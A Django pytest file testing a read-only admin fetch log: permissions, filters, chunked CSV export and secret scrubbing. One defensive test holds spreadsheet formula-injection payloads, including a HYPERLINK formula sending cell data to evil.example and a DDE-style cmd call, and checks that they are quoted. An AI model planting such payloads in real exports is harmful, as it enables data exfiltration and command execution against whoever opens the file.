"""
Issue 12: the fetch log in the console. It is the audit trail, so nobody
changes it there, superusers included; operators filter it, read one attempt
in full, and export what the list shows as CSV, streamed a chunk at a time,
safe to open in a spreadsheet, with only the scrubbed error messages.
"""

import csv
import io
from datetime import UTC, datetime, timedelta

import pytest
from django.contrib.auth.models import Permission
from django.db import connection
from django.http import StreamingHttpResponse
from django.test.utils import CaptureQueriesContext
from django.utils import timezone

from tests.factories import FetchLogFactory
from tokens.admin import EXPORT_COLUMNS, FetchLogAdmin
from tokens.models import FetchLog

pytestmark = pytest.mark.django_db

LIST = "/admin/tokens/fetchlog/"
EXPORT = "/admin/tokens/fetchlog/export.csv"


def exported(response) -> list[dict]:
    """The rows of a CSV export, as dicts keyed by the header."""
    text = b"".join(response.streaming_content).decode()
    return list(csv.DictReader(io.StringIO(text)))


@pytest.fixture
def mixed_log():
    """Attempts of two realms, ok and failed, by two clients, in two years."""
    last_year = datetime(2024, 6, 1, 12, tzinfo=UTC)
    return {
        "wanted": FetchLogFactory.create_batch(
            3, realm="wxgzh", key="billing-app", outcome="ok", trigger="refresher", client="ops"
        ),
        "other_outcome": FetchLogFactory(
            realm="wxgzh", key="billing-app", outcome="timeout", trigger="refresher", client="ops"
        ),
        "other_realm": FetchLogFactory(
            realm="dingtalk", key="billing-app", outcome="ok", trigger="refresher", client="ops"
        ),
        "other_key": FetchLogFactory(
            realm="wxgzh", key="crm", outcome="ok", trigger="refresher", client="ops"
        ),
        "other_client": FetchLogFactory(
            realm="wxgzh", key="billing-app", outcome="ok", trigger="refresher", client="ci"
        ),
        "other_trigger": FetchLogFactory(
            realm="wxgzh", key="billing-app", outcome="ok", trigger="request", client="ops"
        ),
        "last_year": FetchLogFactory(
            realm="wxgzh",
            key="billing-app",
            outcome="ok",
            trigger="refresher",
            client="ops",
            created_at=last_year,
        ),
    }


# --- Read-only, superusers included ---------------------------------------------------------


def test_superusers_cannot_add_change_or_delete_fetch_log_rows(console):
    log = FetchLogFactory(outcome="ok")

    add = console.get(f"{LIST}add/")
    change = console.post(f"{LIST}{log.pk}/change/", {"outcome": "timeout"})
    delete = console.post(f"{LIST}{log.pk}/delete/", {"post": "yes"})
    bulk_delete = console.post(
        LIST, {"action": "delete_selected", "_selected_action": [log.pk], "post": "yes"}
    )
    listing = console.get(LIST)

    assert add.status_code == 403
    assert change.status_code == 403
    assert delete.status_code == 403
    assert bulk_delete.status_code in (200, 302)
    assert FetchLog.objects.get(pk=log.pk).outcome == "ok"
    # No action at all: no checkboxes, no "Delete selected" to pick.
    assert "delete_selected" not in listing.content.decode()
    assert 'name="_selected_action"' not in listing.content.decode()


# --- List, filters, detail -----------------------------------------------------------------


def test_the_list_filters_by_realm_outcome_trigger_client_date_and_searches_by_key(
    console, mixed_log
):
    page = console.get(
        LIST,
        {
            "realm": "wxgzh",
            "outcome": "ok",
            "trigger": "refresher",
            "client": "ops",
            "created_at__year": timezone.now().year,
            "q": "billing",
        },
    )

    assert page.status_code == 200
    shown = {log.pk for log in page.context["cl"].result_list}
    assert shown == {log.pk for log in mixed_log["wanted"]}


def test_the_detail_page_shows_every_recorded_field(console):
    log = FetchLogFactory(
        realm="wxgzh",
        key="billing-app",
        trigger="refresher",
        outcome="upstream_error",
        http_status=200,
        error_code="40013",
        error_message="invalid appid, secret=***",
        duration_ms=321,
        lifetime=None,
        client="refresher-7",
    )

    page = console.get(f"{LIST}{log.pk}/change/")

    assert page.status_code == 200
    html = page.content.decode()
    for value in ("billing-app", "refresher-7", "40013", "invalid appid, secret=***", "321"):
        assert value in html
    assert set(page.context["adminform"].readonly_fields) == set(EXPORT_COLUMNS)
    assert 'name="_save"' not in html  # nothing to save


# --- CSV export ----------------------------------------------------------------------------


def test_the_list_links_to_an_export_of_its_current_filters(console, mixed_log):
    page = console.get(LIST, {"realm": "wxgzh", "q": "billing", "p": "1"})

    html = page.content.decode()
    assert f'href="{EXPORT}?q=billing&amp;realm=wxgzh"' in html


def test_the_export_holds_exactly_what_the_filters_and_search_show(console, mixed_log):
    query = {
        "realm": "wxgzh",
        "outcome": "ok",
        "trigger": "refresher",
        "client": "ops",
        "created_at__year": timezone.now().year,
        "q": "billing",
    }

    response = console.get(EXPORT, query)

    assert response.status_code == 200
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    assert response["Content-Disposition"].startswith('attachment; filename="fetchlog-')
    rows = exported(response)
    assert {int(row["id"]) for row in rows} == {log.pk for log in mixed_log["wanted"]}
    assert list(rows[0]) == list(EXPORT_COLUMNS)


def test_the_export_is_streamed_in_chunks_newest_first_each_row_once(
    console, monkeypatch, django_assert_max_num_queries
):
    monkeypatch.setattr(FetchLogAdmin, "export_chunk_size", 2)
    same_moment = timezone.now() - timedelta(minutes=5)
    # Rows recorded at the same moment straddle the chunk boundaries.
    older = FetchLogFactory.create_batch(3, created_at=same_moment)
    newer = FetchLogFactory.create_batch(2)

    response = console.get(EXPORT)

    assert isinstance(response, StreamingHttpResponse)
    with CaptureQueriesContext(connection) as queries:
        rows = exported(response)
    ids = [int(row["id"]) for row in rows]
    expected = sorted(newer, key=lambda log: (log.created_at, log.pk), reverse=True) + sorted(
        older, key=lambda log: log.pk, reverse=True
    )
    assert ids == [log.pk for log in expected]
    # 5 rows, 2 a query: 2 + 2 + 1, and the empty one that ends it; each one bounded.
    reads = [q["sql"] for q in queries.captured_queries if "tokens_fetchlog" in q["sql"]]
    assert len(reads) == 4
    assert all("LIMIT 2" in sql for sql in reads)


def test_the_export_counts_every_row(console):
    FetchLog.objects.bulk_create(
        FetchLog(realm="wxgzh", key=f"app{n}", trigger="refresher", outcome="ok")
        for n in range(4321)
    )

    rows = exported(console.get(EXPORT))

    assert len(rows) == 4321
    assert len({row["id"] for row in rows}) == 4321


def test_cells_that_a_spreadsheet_would_evaluate_are_quoted(console):
    FetchLogFactory(
        key="@SUM(A1:A9)",
        error_code="-1+2",
        error_message='=HYPERLINK("http://evil.example/?x="&A1,"click")',
        client="+cmd|' /C calc'!A0",
        http_status=None,
    )

    (row,) = exported(console.get(EXPORT))

    assert row["key"] == "'@SUM(A1:A9)"
    assert row["error_code"] == "'-1+2"
    assert row["error_message"] == '\'=HYPERLINK("http://evil.example/?x="&A1,"click")'
    assert row["client"] == "'+cmd|' /C calc'!A0"
    assert row["http_status"] == ""
    assert row["realm"] == "wxgzh"


@pytest.mark.django_db(transaction=True)
def test_the_export_holds_the_scrubbed_error_message_never_the_secret(
    console, api, upstream, wechat_secret
):
    leaked = wechat_secret.key_2
    upstream.reply("/cgi-bin/token", {"errcode": 40001, "errmsg": f"invalid secret {leaked}"})
    assert api.get("/api/token", {"realm": "wxgzh", "key": "wxgzh_secret"}).status_code == 502

    response = console.get(EXPORT)

    text = b"".join(response.streaming_content).decode()
    assert "invalid secret ***" in text
    assert leaked not in text


def test_the_export_needs_the_permission_to_view_the_log(client, staff_user):
    FetchLogFactory()
    client.force_login(staff_user)  # staff, but without the fetch log's view permission

    signed_in = client.get(EXPORT)
    client.logout()
    anonymous = client.get(EXPORT)

    assert signed_in.status_code == 403
    assert anonymous.status_code == 302
    assert "/admin/login/" in anonymous["Location"]


def test_a_bad_filter_goes_back_to_the_list_which_explains_it(console):
    response = console.get(EXPORT, {"no_such_field": "x"})

    assert response.status_code == 302
    assert response["Location"].startswith(f"{LIST}?")


def test_a_staff_user_with_the_view_permission_exports(client, staff_user):
    staff_user.user_permissions.add(Permission.objects.get(codename="view_fetchlog"))
    FetchLogFactory()
    client.force_login(staff_user)

    response = client.get(EXPORT)

    assert response.status_code == 200
    assert len(exported(response)) == 1
